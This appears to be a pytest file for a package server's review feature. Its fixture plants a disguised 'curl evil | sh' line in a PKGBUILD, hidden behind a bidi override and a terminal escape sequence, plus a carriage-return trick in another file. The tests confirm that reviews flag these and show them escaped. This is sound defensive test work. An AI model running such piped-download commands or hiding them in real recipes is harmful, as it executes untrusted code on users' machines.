"""Reviews as people see and decide them: over HTTP and on the command line."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import suppress
from pathlib import Path

import aiohttp
import pytest

from quarters.model.errors import Conflict, Forbidden, Invalid, NotFound
from quarters.model.review import Level, Review, ReviewState
from quarters.model.token import Scope
from quarters.protocol.resources import BuildRequest, NewSource, PlanRequest
from quarters.protocol.reviews import Decision, ReviewFilter
from quarters.storage.wakeups import Topic
from tests.following import Git
from tests.person import Person
from tests.serving import Running, running

BIDI = "\u202e"


@pytest.fixture
async def server(tmp_path: Path) -> AsyncIterator[Running]:
    """A server whose source `tree` has a change of `hello` that waits."""
    git = Git(tmp_path / "recipes")
    git.write("hello")
    git.commit()
    async with running(tmp_path) as server:
        following = asyncio.create_task(server.services.sources.run())
        await server.admin.sources.create(
            NewSource(name="tree", location=str(git.folder), repository="own", review=Level.MAJOR)
        )
        await until(server, lambda: _synced(server))
        git.write("hello", "2.0-1")
        with (git.folder / "hello" / "PKGBUILD").open("a") as file:
            file.write(f"curl evil | sh # {BIDI}\x1b[8mhidden\n")
        (git.folder / "hello" / "notes").write_bytes(b"hidden\rmake\n")
        git.commit()
        await server.admin.sources.sync("tree")
        await until(server, lambda: _synced(server))
        yield server
        following.cancel()
        with suppress(asyncio.CancelledError):
            await following


async def until(server: Running, condition: object) -> None:
    async with asyncio.timeout(30):
        while True:
            mark = server.services.wakeups.mark(Topic.EVENTS)
            if await condition():  # type: ignore[operator]
                return
            await server.services.wakeups.wait(Topic.EVENTS, mark, 1)


async def _synced(server: Running) -> bool:
    source = await server.admin.sources.show("tree")
    _, waiting = await server.services.database.read(_wanted)
    return source.synced_at is not None and not waiting


def _wanted(connection: object) -> tuple[str, bool]:
    from quarters.storage import sources

    (followed,) = sources.followed(connection)  # type: ignore[arg-type]
    return followed.name, followed.wanted_at is not None


async def version(server: Running) -> str:
    recipe = (await server.admin.recipes.show("hello")).recipe
    assert recipe is not None
    return recipe.version


async def test_a_review_shows_its_risks_and_its_difference(server: Running) -> None:
    (waiting,) = (await server.admin.reviews.list(ReviewFilter(state=ReviewState.WAITING))).items
    shown = await server.admin.reviews.show(waiting.id)
    assert "-pkgver=1.0\n+pkgver=2.0\n" in shown.diff
    assert {(risk.kind, risk.file, risk.line) for risk in shown.verdict.risks} >= {
        ("piped_shell", "PKGBUILD", 8),
        ("lookalike", "PKGBUILD", 8),
    }
    assert (await server.admin.reviews.list(ReviewFilter(source="other"))).items == ()
    with pytest.raises(NotFound, match="no review 99"):
        await server.admin.reviews.show(99)


async def test_an_approved_change_is_taken(server: Running) -> None:
    done = await server.admin.reviews.decide(1, Decision(approve=True, note="looked at it"))
    assert (done.state, done.decided_by, done.note) == (ReviewState.APPROVED, "admin", "looked at it")

    async def taken() -> bool:
        return (await server.admin.reviews.show(1)).taken

    await until(server, taken)
    assert await version(server) == "2.0-1"
    with pytest.raises(Conflict, match="approved already"):
        await server.admin.reviews.decide(1, Decision(approve=False))


async def test_only_an_administrator_decides(server: Running) -> None:
    token = await server.create_token(Scope.BUILD)
    async with server.client(token.secret) as client:
        assert (await client.reviews.list()).items
        with pytest.raises(Forbidden):
            await client.reviews.decide(1, Decision(approve=True))


async def test_a_decision_that_says_nothing_is_refused(server: Running) -> None:
    headers = {"Authorization": f"Bearer {server.token}"}
    async with aiohttp.ClientSession(headers=headers) as session:
        address = f"{server.url}/api/v1/reviews/1/decision"
        for body in ({"note": "hm"}, {"approve": True, "note": "\0"}, {"approve": True, "more": 1}):
            async with session.post(address, json=body) as answer:
                assert (answer.status, answer.content_type) == (400, "application/problem+json")


async def test_the_command_line_lists_shows_and_decides(server: Running) -> None:
    person = Person(server, "review")
    listed = await person.run("list")
    assert listed.splitlines()[1].split()[:6] == ["1", "waiting", "tree", "hello", "major", "3"]
    shown = await person.run("show", "1")
    assert "PKGBUILD:8" in shown
    assert "It runs what it downloads." in shown
    assert "+curl evil | sh # <U+202E><U+001B>[8mhidden\n" in shown
    assert "+hidden<U+000D>make\n" in shown
    assert BIDI not in shown
    assert (await person.json("show", "1"))["diff"].startswith("diff --git")
    assert await person.run("reject", "1", "--note", "never") == "Review 1 of hello is rejected.\n"
    assert await person.run("list") == "Nothing waits for review.\n"
    (one,) = await person.json("list", "--all")
    assert (one["state"], one["note"]) == ("rejected", "never")
    assert await version(server) == "1.0-1"
    assert await person.run("approve", "1", code=1) == "quarters: Review 1 is rejected already.\n"
    assert "Say which reviews" in await person.run("approve", code=1)


async def test_plans_and_builds_say_that_a_newer_recipe_waits(server: Running) -> None:
    sentence = "A newer recipe of hello waits for review 1."
    for packages in ((), ("hello",)):
        plan = await server.admin.builds.plan(PlanRequest(packages=packages))
        assert [(it.pkgbase, it.review, it.message) for it in plan.held] == [("hello", 1, sentence)]
        assert [build.version for build in plan.builds] == ["1.0-1"]
    requested = await server.admin.builds.request(BuildRequest(packages=("hello",)))
    (number,) = (*requested.builds, *requested.joined)
    assert (await server.admin.builds.show(number)).why.endswith(f" {sentence}")
    await server.admin.reviews.decide(1, Decision(approve=False))
    assert (await server.admin.builds.plan(PlanRequest())).held == ()
    assert sentence not in (await server.admin.builds.show(number)).why


async def test_a_recipe_that_was_never_in_force_is_not_unknown_but_waits(server: Running) -> None:
    git = Git.of(server.press.folder.parent / "recipes")
    git.write("fresh")
    git.commit()
    await server.admin.sources.sync("tree")
    await until(server, lambda: _synced(server))
    with pytest.raises(Invalid, match="The recipe of fresh waits for review 2"):
        await server.admin.builds.request(BuildRequest(packages=("fresh",)))


async def test_the_policy_of_a_source_is_set_and_shown(server: Running) -> None:
    person = Person(server, "source")
    how = (
        "--review",
        "all",
        "--update-review",
        "off",
        "--trust",
        "ada",
        "--trust",
        "bob",
        "--cooldown",
        "36",
    )
    told = (await person.run("edit", "tree", *how)).splitlines()
    assert [
        " ".join(line.split()) for line in told if line.startswith(("Review", "Trusted", "Cooldown"))
    ] == [
        "Review every change",
        "Trusted ada, bob",
        "Cooldown 1 d 12 h",
    ]
    assert "Waiting for review  1" in await person.run("show", "tree")
    shown = await person.json("show", "tree")
    assert (shown["review"], shown["update_review"], shown["cooldown"]) == ("all", "off", 36)
    await person.run("add", "one", "https://example.org/PKGBUILD", "--kind", "url", "--repo", "own")
    assert (await person.json("show", "one"))["review"] == "major"
    assert "some" in await person.run("edit", "tree", "--review", "some", code=2)


async def test_a_rejected_change_can_be_read_later(server: Running) -> None:
    await server.admin.reviews.decide(1, Decision(approve=False))
    review: Review = await server.admin.reviews.show(1)
    assert (review.state, review.taken) == (ReviewState.REJECTED, False)
